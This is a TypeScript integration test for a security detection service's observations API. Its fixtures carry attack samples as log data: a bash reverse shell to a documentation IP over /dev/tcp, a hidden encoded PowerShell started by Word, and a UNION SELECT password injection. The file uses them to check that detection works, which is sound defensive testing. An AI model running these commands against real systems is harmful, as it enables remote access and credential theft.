// Observations through HTTP on SQLite and PostgreSQL: records posted to the collector become
// observations via the detection thread (listed, filtered, read with evidence, tenant-scoped,
// never doubled on reprocessing), and external writes pass the review: filed by a tenant admin,
// approved by an operator, held to the approved volume.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { databaseTargets, type TestDatabase } from '../helpers/databases.js';
import { startServer, type TestServer } from '../helpers/server.js';
import {
  apiClient,
  bearer,
  detectionCaughtUp,
  ingest,
  issueToken,
  seedTenant,
  signIn,
  type ApiClient,
  type ApiResponse,
  type Problem,
} from '../helpers/api.js';
import type { Page, Readiness } from '../helpers/responses.js';
import { webAccessRecord } from '../helpers/factories.js';
import type { Tenant } from '../../src/identity/tenants/tenant-service.js';
import type { AuditEvent } from '../../src/identity/audit/audit-service.js';
import type { ObservationDetail, ObservationView } from '../../src/observations/observation-service.js';
import type { WriteRequestView } from '../../src/observations/write-request-service.js';
import type { RuleView } from '../../src/detection/rule-routes.js';

type Technique = ObservationView['techniques'][number];
/** GET /v1/observations/{id}, its evidence records (the collector's JSON objects) read as objects. */
type ObservationWithRecords = ObservationDetail & { evidence: { record: Record<string, unknown> | null }[] };
type Observations = Page<'observations', ObservationView>;
/** GET /v1/rules */
type Rules = Page<'rules', RuleView> & { total: number; rejected_count: number };

const now = () => new Date().toISOString();

/** A Windows Sysmon process creation (EID 1): Word starting an encoded PowerShell. */
function sysmonOfficePowershell(host: string): Record<string, unknown> {
  return {
    EventID: 1,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: host,
    UtcTime: now(),
    Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    CommandLine:
      'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    ParentCommandLine: '"WINWORD.EXE" /n "C:\\Users\\bob\\Downloads\\invoice.docm"',
    User: 'CORP\\bob',
    ProcessId: 4242,
    ParentProcessId: 4100,
  };
}

/** A Linux process in the generic documented shape: a reverse shell. */
function reverseShell(host: string): Record<string, unknown> {
  return {
    type: 'process',
    timestamp: now(),
    host,
    endpoint_id: 'ep-7',
    user: 'www-data',
    os: 'linux',
    process: {
      name: 'bash',
      pid: 31337,
      executable: '/bin/bash',
      command_line: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    },
    parent: { name: 'php-fpm', pid: 900, executable: '/usr/sbin/php-fpm8.2', command_line: 'php-fpm: pool www' },
  };
}

for (const target of databaseTargets) {
  describe(`observations API on ${target.kind}`, { skip: target.skip }, () => {
    let database: TestDatabase;
    let server: TestServer;
    let acme: Tenant;
    let globex: Tenant;
    let reader: ApiClient;

    before(async () => {
      database = await target.create();
      server = await startServer(database);
      acme = await seedTenant(server, 'acme');
      globex = await seedTenant(server, 'globex');
      reader = apiClient(server, bearer((await issueToken(server, acme, ['observations:read'])).value));
    });
    after(async () => {
      await server.close();
      await database.cleanup();
    });

    test('attacks in the records become observations with techniques, device and evidence; benign ones do not', async () => {
      const sqli = webAccessRecord({
        request: "GET /item?id=1'%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1",
        hostname: 'web-01',
      });
      const benign = [webAccessRecord(), webAccessRecord()];
      await ingest(server, [...benign, sqli, sysmonOfficePowershell('ws-042'), reverseShell('web-02')]);
      await detectionCaughtUp(server);

      const listed = await reader.get<Observations>('/v1/observations?limit=100');
      assert.equal(listed.status, 200, JSON.stringify(listed.body));
      const observations = listed.body.observations;
      const techniques = new Set(
        observations.flatMap((observation) => observation.techniques.map((technique: Technique) => technique.id)),
      );
      assert.ok(techniques.has('T1190'), `SQL injection maps to T1190; got ${[...techniques].join(', ')}`);
      assert.ok(
        [...techniques].some((id) => id.startsWith('T1059')),
        'the shells map to T1059',
      );
      const hosts = new Set(observations.map((observation) => observation.host));
      assert.ok(hosts.has('ws-042') && hosts.has('web-02'), `devices named: ${[...hosts].join(', ')}`);
      for (const observation of observations) {
        assert.match(observation.id, /^obs_/);
        assert.equal(observation.source, 'detection');
        assert.ok(observation.rule.author, 'the rule author is kept');
        assert.equal(observation.record_ids.length, 1);
      }

      // T1190 is also the web-server-spawns-a-shell rule's technique: pick the SQL injection one.
      const web = observations.find((observation) => observation.rule.title === 'SQL Injection Attempt in Web Request');
      assert.ok(
        web,
        `no SQL injection observation among ${observations.map((observation) => observation.rule.title).join('; ')}`,
      );
      const detail = await reader.get<ObservationWithRecords>(`/v1/observations/${web.id}`);
      assert.equal(detail.status, 200);
      assert.equal(detail.body.evidence[0]!.record!.marker, sqli.marker, 'the evidence is the triggering record');
      assert.ok(Object.keys(detail.body.evidence[0]!.fields).length > 0, 'with the fields the rule looked at');
      assert.equal(
        detail.body.techniques.find((technique) => technique.id === 'T1190')?.name,
        'Exploit Public-Facing Application',
      );

      const benignMarkers = new Set(benign.map((record) => record.marker));
      for (const observation of observations) {
        const evidence = (await reader.get<ObservationWithRecords>(`/v1/observations/${observation.id}`)).body.evidence;
        assert.ok(!benignMarkers.has(evidence[0]!.record?.marker), `benign record matched ${observation.rule.title}`);
      }
      const filtered = await reader.get<Observations>('/v1/observations?technique=T1059&limit=100');
      assert.ok(filtered.body.observations.length > 0);
      assert.ok(
        filtered.body.observations.every((observation) =>
          observation.techniques.some((technique: Technique) => technique.id.startsWith('T1059')),
        ),
      );
      const byHost = await reader.get<Observations>('/v1/observations?host=ws-042');
      assert.ok(
        byHost.body.observations.length > 0 &&
          byHost.body.observations.every((observation) => observation.host === 'ws-042'),
      );
      const byLevel = await reader.get<Observations>('/v1/observations?level=informational');
      assert.ok(byLevel.body.observations.every((observation) => observation.level === 'informational'));
    });

    test('pages follow next_cursor without gaps or repeats', async () => {
      const all = (await reader.get<Observations>('/v1/observations?limit=500')).body.observations.map(
        (observation) => observation.id,
      );
      const paged: string[] = [];
      let cursor: string | null = null;
      do {
        const response: ApiResponse<Observations> = await reader.get(
          `/v1/observations?limit=1${cursor ? `&cursor=${cursor}` : ''}`,
        );
        paged.push(...response.body.observations.map((observation) => observation.id));
        cursor = response.body.next_cursor;
      } while (cursor);
      assert.deepEqual(paged, all);
      assert.ok(all.length >= 2);
    });

    test("another tenant's observations are invisible: not listed, and 404 by id", async () => {
      const mine = (await reader.get<Observations>('/v1/observations')).body.observations[0]!;
      const other = apiClient(server, bearer((await issueToken(server, globex, ['observations:read'])).value));
      assert.deepEqual((await other.get<Observations>('/v1/observations')).body.observations, []);
      const response = await other.get<Problem>(`/v1/observations/${mine.id}`);
      assert.equal(response.status, 404);
      assert.equal(response.body.code, 'not_found');
    });

    test('reprocessing the log never doubles an observation (dedupe by rule and record)', async () => {
      const before = (await reader.get<Observations>('/v1/observations?limit=500')).body.observations.length;
      // Rewind the detection cursor as a crash between commit and acknowledgement could.
      await server.sightline.database.db
        .updateTable('log_cursors')
        .set({ seq: 0, tx_id: '0', seen: null, up_to: null })
        .where('name', '=', 'detection')
        .execute();
      await ingest(server, [webAccessRecord()]);
      await detectionCaughtUp(server);
      const afterCount = (await reader.get<Observations>('/v1/observations?limit=500')).body.observations.length;
      assert.equal(afterCount, before);
    });

    test('bad filters are refused with a clear problem', async () => {
      for (const query of ['level=severe', 'technique=1059', 'since=yesterday', 'cursor=abc', 'colour=red']) {
        const response = await reader.get(`/v1/observations?${query}`);
        assert.equal(response.status, 400, query);
        assert.match(response.headers.get('content-type') ?? '', /problem\+json/);
      }
    });

    test('writing observations: refused until approved, then validated, idempotent and held to the approved volume', async () => {
      const writer = apiClient(
        server,
        bearer((await issueToken(server, acme, ['observations:write', 'observations:read'])).value),
      );
      const observation = {
        external_id: 'edr-1',
        title: 'EDR: credential dumping',
        level: 'critical',
        techniques: ['T1003.001'],
        host: 'ws-042',
        first_time: now(),
      };
      const refused = await writer.post<Problem>('/v1/observations', observation);
      assert.equal(refused.status, 403);
      assert.equal(refused.body.code, 'observation_write_not_approved');
      assert.match(refused.body.detail, /observation-write-requests/);

      // Only a tenant admin files the review; a token cannot.
      const byToken = await writer.post<Problem>('/v1/observation-write-requests', {
        service_impact: 'none at all here',
        correlation: 'joins cases by host name',
        expected_volume_per_hour: 2,
      });
      assert.equal(byToken.status, 403);
      assert.equal(byToken.body.code, 'tenant_admin_required');
      const admin = await signIn(server, { tenant: acme, role: 'admin', email: `admin-${target.kind}@acme.example` });
      const csrf = { 'x-csrf-token': admin.csrf };
      const statement = {
        service_impact: 'No change to the managed services',
        correlation: 'EDR alerts name hosts, so they join the same cases',
        expected_volume_per_hour: 2,
      };
      const filed = await admin.client.post<WriteRequestView>('/v1/observation-write-requests', statement, csrf);
      assert.equal(filed.status, 201, JSON.stringify(filed.body));
      assert.equal(filed.body.status, 'pending');
      assert.equal(
        (await admin.client.post<Problem>('/v1/observation-write-requests', statement, csrf)).body.code,
        'review_request_pending',
      );
      assert.equal((await writer.post('/v1/observations', observation)).status, 403, 'filing is not approval');

      const operator = await signIn(server, {
        tenant: null,
        role: 'operator',
        email: `operator-${target.kind}@platform.example`,
      });
      const queue = await operator.client.get<Page<'requests', WriteRequestView>>(
        '/v1/operator/observation-write-requests?status=pending',
      );
      assert.ok(queue.body.requests.some((request) => request.id === filed.body.id && request.tenant === 'acme'));
      assert.equal(
        (
          await admin.client.post(
            `/v1/operator/observation-write-requests/${filed.body.id}/decision`,
            { decision: 'approve' },
            csrf,
          )
        ).status,
        403,
        'tenant admins cannot approve themselves',
      );
      const approved = await operator.client.post<WriteRequestView>(
        `/v1/operator/observation-write-requests/${filed.body.id}/decision`,
        { decision: 'approve', note: 'reviewed' },
        { 'x-csrf-token': operator.csrf },
      );
      assert.equal(approved.status, 200, JSON.stringify(approved.body));
      assert.equal(approved.body.status, 'approved');

      const written = await writer.post<ObservationView>('/v1/observations', observation);
      assert.equal(written.status, 201, JSON.stringify(written.body));
      assert.equal(written.body.source, 'external');
      assert.equal(written.body.rule.type, 'external');
      assert.deepEqual(written.body.techniques, [{ id: 'T1003.001', name: 'LSASS Memory' }]);
      const again = await writer.post<ObservationView>('/v1/observations', observation);
      assert.equal(again.status, 200);
      assert.equal(again.body.id, written.body.id);

      const unknownTechnique = await writer.post<Problem>('/v1/observations', {
        ...observation,
        external_id: 'edr-x',
        techniques: ['T9999'],
      });
      assert.equal(unknownTechnique.status, 400);
      assert.match(unknownTechnique.body.detail, /T9999/);
      const foreignRecord = await writer.post<Problem>('/v1/observations', {
        ...observation,
        external_id: 'edr-y',
        // Well-formed, but no record's id: made with another key, or invented.
        record_ids: [`rec_${'A'.repeat(22)}`],
      });
      assert.equal(foreignRecord.status, 400);
      assert.equal(foreignRecord.body.field, 'record_ids');

      assert.equal((await writer.post('/v1/observations', { ...observation, external_id: 'edr-2' })).status, 201);
      const limited = await writer.post<Problem>('/v1/observations', { ...observation, external_id: 'edr-3' });
      assert.equal(limited.status, 429);
      assert.equal(limited.body.code, 'observation_rate_limited');
      assert.ok(limited.headers.get('retry-after'));

      const external = (await reader.get<Observations>('/v1/observations?source=external')).body.observations;
      assert.equal(external.length, 2);
      assert.ok(
        external.some((item) => item.id === written.body.id) && external.every((item) => item.source === 'external'),
      );
      const audit = await admin.client.get<Page<'events', AuditEvent>>('/v1/audit-events?limit=100');
      const actions = audit.body.events.map((event) => event.action);
      assert.ok(actions.includes('observation_write.requested') && actions.includes('observation_write.approved'));
    });

    test('GET /v1/rules lists the bundled pack with techniques; nothing is rejected', async () => {
      const response = await reader.get<Rules>('/v1/rules?limit=500');
      assert.equal(response.status, 200);
      assert.ok(response.body.total >= 40, `bundled rules: ${response.body.total}`);
      assert.equal(response.body.rejected_count, 0);
      assert.ok(response.body.rules.every((rule) => rule.file.startsWith('rules/') && rule.author));
      assert.ok(response.body.rules.some((rule) => rule.type === 'correlation'));
      const web = await reader.get<Rules>('/v1/rules?technique=T1190');
      assert.ok(
        web.body.rules.length > 0 &&
          web.body.rules.every((rule) => rule.techniques.some((technique: Technique) => technique.id === 'T1190')),
      );
      assert.deepEqual((await reader.get<{ rejected: unknown[] }>('/v1/rules/rejected')).body.rejected, []);
    });

    test('/metrics and /readyz report the detection lag and progress, and how soon records were seen', async () => {
      const ready = await apiClient(server).get<Readiness>('/readyz');
      assert.equal(ready.body.checks.detection, 'ok');
      assert.equal(typeof ready.body.detection_lag_records, 'number');
      const metrics = await server.metrics();
      assert.match(metrics, /^sightline_detection_lag_records \d+$/m);
      assert.match(metrics, /^sightline_observations_created_total [1-9]\d*$/m);
      // One time to detect per observation made, each within the histogram's buckets.
      const created = Number(/^sightline_observations_created_total (\d+)$/m.exec(metrics)?.[1]);
      const detected = Number(/^sightline_time_to_detect_seconds_count (\d+)$/m.exec(metrics)?.[1]);
      assert.ok(detected >= created && created > 0, `time to detect counted ${detected} for ${created} observations`);
      assert.match(metrics, /^sightline_time_to_detect_seconds_bucket\{le="900"\} [1-9]\d*$/m);
      assert.match(metrics, /^sightline_detection_delay_seconds_count [1-9]\d*$/m);
      // Sampled every second from the start.
      assert.match(metrics, /^sightline_search_index_delay_seconds_count [1-9]\d*$/m);
    });
  });
}
